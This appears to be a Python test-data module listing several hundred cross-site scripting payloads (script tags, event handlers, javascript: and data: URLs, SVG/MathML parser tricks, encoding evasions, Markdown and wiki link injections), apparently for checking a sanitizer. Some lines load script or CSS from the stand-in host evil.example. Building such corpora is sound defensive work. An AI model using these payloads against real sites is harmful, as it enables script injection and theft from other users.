"""Texts that want to become active content: what the public lists of XSS try.

Each line is one of them; a backslash and a letter stand for a character. What is
within `alert(…)`, on `evil.example`, or in a handler must never be reached.
"""

CORPUS = r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/xss src="//evil.example/x.js"></script>
<<SCRIPT>alert(1);//<</SCRIPT>
<img src=x onerror=alert(1)>
<IMG SRC="javascript:alert(1);">
<IMG SRC=JaVaScRiPt:alert(1)>
<IMG SRC=`javascript:alert("x")`>
<IMG ""><SCRIPT>alert(1)</SCRIPT>">
<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>
<IMG SRC="jav&#x09;ascript:alert(1);">
<IMG SRC=" &#14; javascript:alert(1);">
<IMG SRC="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<IMG DYNSRC="javascript:alert(1)" LOWSRC="javascript:alert(1)">
<img src="//evil.example/pixel.gif" srcset="//evil.example/p.gif 2x">
<BODY ONLOAD=alert(1)>
<svg onload=alert(1)>
<svg><script>alert&#40;1&#41;</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<math><table><mglyph><style><!--</style><img title="--&gt;&lt;img onerror=a()&gt;">
<math href="javascript:alert(1)">x</math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">
<link rel="stylesheet" href="javascript:alert(1);">
<STYLE>@import'//evil.example/x.css';</STYLE>
<style>*{background:url("javascript:alert(1)")}</style>
<div style="background:url(javascript:alert(1))">x</div>
<div style="position:fixed;inset:0;z-index:99">over all</div>
<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">
<base href="javascript:alert(1)//">
<a href="javascript:alert(1)">x</a>
<a href="java\tscript:alert(1)">x</a>
<a href=" &#x6A;avascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="\x01javascript:alert(1)">x</a>
<a href="file:///etc/passwd">x</a>
<a onmouseover="alert(1)" href=#>x</a>
<a href=# onclick=alert(1)//">x</a>
<b onclick="alert(1)">x</b>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)><option>x</select>
<textarea autofocus onfocus=alert(1)></textarea>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<form action="javascript:alert(1)"><button>x</button></form>
<button formaction="javascript:alert(1)">x</button>
<isindex action="javascript:alert(1)">
<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</table>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<template><script>alert(1)</script></template>
<xmp><img src=x onerror=alert(1)></xmp>
<plaintext><script>alert(1)</script>
<!--<img src="--><img src=x onerror=alert(1)//">
<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<a href="x" id="main" name="csrf" class="btn danger vh">x</a>
<p id=x id=y class=problem>z
<keygen autofocus onfocus=alert(1)>
</div></main></body></html><script>alert(1)</script>
" onmouseover="alert(1)
'><script>alert(1)</script>
\u2028<script>alert(1)</script>\u2029
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](javascript&#58;alert(1))
[x](java&Tab;script:alert(1))
[x](<javascript:alert(1)>)
[x](data:text/html;base64,PHNjcmlwdD4=)
[x](//evil.example "onmouseover=alert(1)")
[x](http://a.example" onmouseover="alert(1))
[x](http://a.example 'a" onmouseover="alert(1)')
![x](javascript:alert(1))
![x](x" onerror="alert(1))
![x" onerror="alert(1)](x)
![x](//evil.example/pixel.gif)
![x](http://evil.example/pixel.gif)
<javascript:alert(1)>
<http://a.example/"onmouseover="alert(1)>
[a]: javascript:alert(1)\n\n[a]
[^1]: <script>alert(1)</script>\n\n[^1]
[^"><img src=x onerror=alert(1)>]: x\n\n[^"><img src=x onerror=alert(1)>]
```"><script>alert(1)</script>\nx\n```
```html\n<script>alert(1)</script>\n```
|<img src=x onerror=alert(1)>|b|\n|-|-|\n|[x](javascript:alert(1))|y|
# <img src=x onerror=alert(1)>
[javascript:alert(1)]
[javascript:alert(1)|x]
[http://x.example/" onmouseover="alert(1)]
[http://x.example/|<img src=x onerror=alert(1)>]
[/x" onmouseover="alert(1)|y]
[//evil.example/|x]
[/\\evil.example/|x]
[#"><script>alert(1)</script>|x]
[known|<script>alert(1)</script>]
[wiki:<script>alert(1)</script>]
[tag:x" onmouseover="alert(1)]
[evil:x]
<verbatim type="x' onclick='alert(1)">a</verbatim>
<verbatim id="(((((">a</verbatim>
<verbatim><script>alert(1)</script>
<nowiki><script>alert(1)</script></nowiki>
<title onclick=alert(1)>x</title>
<a href='javascript:alert(1)'>x</a>
<a href='/x" onmouseover="alert(1)'>x</a>
<img src='/x" onerror="alert(1)'>
<a href=/\\evil.example>x</a>
http://x.example/"><script>alert(1)</script>
javascript:alert(1)
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><foreignObject><iframe srcdoc="&lt;script&gt;alert(1)//"></foreignObject>
<svg><desc><noscript></desc><p title="</noscript><img src=x onerror=alert(1)>"></svg>
<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"></use>
<svg><set attributeName=href to=javascript:alert(1)></set><a>x</a></svg>
<svg><animate xlink:href=#x attributeName=href values=&#106;avascript:alert(1) />
<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>
<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)></style></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml>
<math><mi><img src=x onerror=alert(1)></mi></math>
<form id=x></form><form id=y><div></form><form><input name=nodeName></div>
<form><input name=attributes><input name=parentNode></form>
<img name=body><img name=getElementById id=location>
<table><tr><td><form action=/logout method=post></td></tr><input name=x></table>
<select><template><style><img src=x onerror=alert(1)></style></template></select>
<option><style></option></select><img src=x onerror=alert(1)></style>
<textarea></textarea><img src=x onerror=alert(1)></textarea>
<title></title><img src=x onerror=alert(1)></title>
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><p title="</noframes><script>alert(1)</script>"></noframes>
<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>
<comment><img src="</comment><img src=x onerror=alert(1)>"></comment>
<!--><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)>
<!---><script>alert(1)</script>
<!x><img src=x onerror=alert(1)>
<?x?><img src=x onerror=alert(1)>
</ x><img src=x onerror=alert(1)>
<a/href="javascript:alert(1)">x</a>
<a href=javascript&colon;alert(1)>x</a>
<a href=javascript&#x3A;alert&lpar;1&rpar;>x</a>
<a href="javascript://%0aalert(1)">x</a>
<a href="jAvAsCrIpT&Tab;:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="//evil.example/" target=_blank ping="//evil.example/p">x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="blob:https://evil.example/1">x</a>
<a download=x.html href="data:text/html,x">x</a>
<area href="javascript:alert(1)" shape=default>
<map name=x><area href="javascript:alert(1)"></map><img usemap=#x src=/x>
<img src=x:alert(1) onerror=eval(src)>
<img/src=`x`onerror=alert(1)>
<img src='x'onerror='alert(1)'>
<img src=x onerror\n=alert(1)>
<img srcset="x" onload=alert(1)>
<img src="x" alt="``onerror=alert(1)">
<img src=x title='"><img src=x onerror=alert(1)>'>
<img longdesc="javascript:alert(1)" src=x>
<picture><source srcset="//evil.example/p.png"><img src=x></picture>
<video poster="javascript:alert(1)" src=x onloadstart=alert(1)></video>
<audio autoplay onplay=alert(1) src="data:audio/wav;base64,"></audio>
<embed src="data:image/svg+xml,<svg onload=alert(1)>">
<applet code="javascript:alert(1)"></applet>
<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>
<dialog open onclose=alert(1)><form method=dialog><button>x</form></dialog>
<div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p>x</button>
<div contenteditable autofocus onfocus=alert(1)>x</div>
<p tabindex=1 onfocus=alert(1) autofocus>x</p>
<p onpointerrawupdate=alert(1) onscrollend=alert(1) onwheel=alert(1)>x</p>
<p style="animation-name:x" onanimationstart=alert(1)>x</p>
<p style="x:expression(alert(1))">x</p>
<p style=behavior:url(#default#time2)>x</p>
<style>@keyframes x{}</style><b style="animation-name:x" onanimationend=alert(1)>x</b>
<link rel=import href="data:text/html,<script>alert(1)</script>">
<link rel=prefetch href=//evil.example/>
<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<slot onslotchange=alert(1)></slot><custom-x onclick=alert(1)>x</custom-x>
<custom-x is=x-y style=x>x</custom-x>
<math><x xlink:href="javascript:alert(1)">x</x></math>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<ScRiPt\n>alert(1)</sCrIpT\n>
<script\x0c>alert(1)</script>
<script src="data:text/javascript,alert(1)"></script>
<script type=module>import "//evil.example/x.js"</script>
<script>alert(1)
<scr\0ipt>alert(1)</scr\0ipt>
<\u0131mg src=x onerror=alert(1)>
<img src=x onerror=alert(1)//
<b <script>alert(1)</script>
<a href="x"<script>alert(1)</script>>x</a>
<table><script>alert(1)</script><caption><img src=x onerror=alert(1)>
<a title="&quot; onmouseover=&quot;alert(1)" href=x>x</a>
<a name="x" id="__proto__">x</a><a id=documentElement>x</a>
<ol start="1 onclick=alert(1)"><li value="javascript:alert(1)">x</ol>
<blockquote cite="javascript:alert(1)">x</blockquote><del cite="data:,x">y</del>
[x](javascript://www.example.org%0Aalert(1))
[x](javascript:window.onerror=alert;throw%201)
[x](Javas&#99;ript:alert(1&#41;)
[x](javascript:alert&#65534;(1&#41;)
[x]( javascript:alert(1))
[x](\x01javascript:alert(1))
[x](<java\nscript:alert(1)>)
[x](\\javascript:alert(1))
[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61)
[x](https://x.example/ "a\" onmouseover=\"alert(1)")
[x](https://x.example/?"><script>alert(1)</script>)
[x]: javascript:alert(1) "t"\n\n[x] ![x]
[x]: <javascript:alert(1)>\n\n[x][]
[x]: https://a.example 'a" onclick="alert(1)'\n\n[x]
[javascript:alert(1)](javascript:alert(1))
[<img src=x onerror=alert(1)>](https://x.example)
[![x](x "onerror=alert(1)")](javascript:alert(1))
![<img src=x onerror=alert(1)>](/x)
![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
![x](/x "><script>alert(1)</script>")
![x](/x\n"onerror=alert(1)")
<https://x.example/<script>alert(1)</script>>
<javascript&colon;alert(1)>
<a@x.example" onclick="alert(1)>
https://x.example/"onmouseover="alert(1)
https://x.example/<img/src=x/onerror=alert(1)>
www.x.example/"><script>alert(1)</script>
(^<script>alert(1)</script>)
(^[x](javascript:alert(1)) <img src=x onerror=alert(1)>)
[x" onclick="alert(1)](^.btn.danger: <iframe src=x>)
(^.x"onclick="alert(1): y)
[^"><script>alert(1)</script>]
[^stray" onclick="alert(1)]: <script>alert(1)</script>
[^a]: .x"><img: <svg onload=alert(1)>\n\nText[^a]
[<b onclick=alert(1)>x</b>](^<style>*{display:none}</style>)
(^(^(^(^(^(^(^<img src=x onerror=alert(1)>)))))))
- [x](javascript:alert(1)) <img src=x onerror=alert(1)>
- [ ] <input type=checkbox onclick=alert(1)>
> <img src=x onerror=alert(1)>\n> <script>\n> alert(1)</script>
    <script>alert(1)</script>
~~~ "><script>alert(1)</script>\nx\n~~~
``` x" onclick="alert(1)\ny\n```
`<script>alert(1)</script>`
``` pikchr\nbox "<script>alert(1)</script>" href "javascript:alert(1)"\n```
|a|\n|:-:"onclick=alert(1)|\n|<b onclick=alert(1)>|
|`|`<img src=x onerror=alert(1)>`|\n|-|-|\n|[x](javascript:alert(1)|y|
<div>\n\n[x](javascript:alert(1))\n\n</div onclick=alert(1)>
<p\n\nonclick=alert(1)>x
<b>\n<script>\nalert(1)\n</script>\n</b>
<a href="\n\njavascript:alert(1)">x</a>
&lt;img src=x onerror=alert(1)&gt;
\\<script>alert(1)</script>
*<img src=x* onerror=alert(1)>*
**<a href="x** onmouseover="alert(1)">x</a>
# x {onclick=alert(1)} <script>alert(1)</script>
<html><b onclick=alert(1)>x</b></html>
<html>\n<script>alert(1)</script>\n</html>
[wiki:x" onclick="alert(1)|<img src=x onerror=alert(1)>]
[./x" onclick="alert(1)|x]
[../"><script>alert(1)</script>|x]
[https://x.example/?a='onclick='alert(1)|x]
[tag:" onclick="alert(1)|x]
[tag:javascript:alert(1)|x]
[ftp://x/" onclick="alert(1)|x]
[mailto:x@y" onclick="alert(1)|x]
[date:<script>alert(1)</script>]
[2026-01-01" onclick="alert(1)|x]
[abcdef01" onclick="alert(1)]
[|<script>alert(1)</script>]
[[<img src=x onerror=alert(1)>]]
<verbatim type="html"><img src=x onerror=alert(1)></verbatim>
<verbatim links><a href=javascript:alert(1)>[javascript:alert(1)]</verbatim>
<verbatim id=x></verbatim></verbatim id=x><script>alert(1)</script>
<verbatim type='"><script>alert(1)</script>'>x</verbatim>
<nowiki>[javascript:alert(1)|x]<img src=x onerror=alert(1)></nowiki>
<nowiki><verbatim></nowiki><script>alert(1)</script>
  *  <img src=x onerror=alert(1)>\n  *  [javascript:alert(1)|x]
  1.  <script>alert(1)</script>
\n   <script>alert(1)</script>
<h1 onclick=alert(1)>x</h1><title><script>alert(1)</script></title>
<ul onclick=alert(1)><li onclick=alert(1)>x</ul>
<font color="x" style="x" onclick=alert(1)>x</font>
<tt onclick=alert(1)>x</tt><nobr onmouseover=alert(1)>y</nobr>
<img src="javascript:alert(1)" onerror="alert(1)" width="1 onload=alert(1)">
<br onclick=alert(1) clear="x" onload=alert(1)>
<hr style="x:y" onmouseover=alert(1)>
"""

_ESCAPES = {
    r"\n": "\n",
    r"\t": "\t",
    r"\x01": "\x01",
    r"\x0c": "\x0c",
    r"\0": "\0",
    r"\u0131": "\u0131",
    r"\u2028": "\u2028",
}


def lines():
    """List the texts."""
    return [_unescaped(line) for line in CORPUS.split("\n") if line]


def _unescaped(line):
    for code, character in _ESCAPES.items():
        line = line.replace(code, character)
    return line
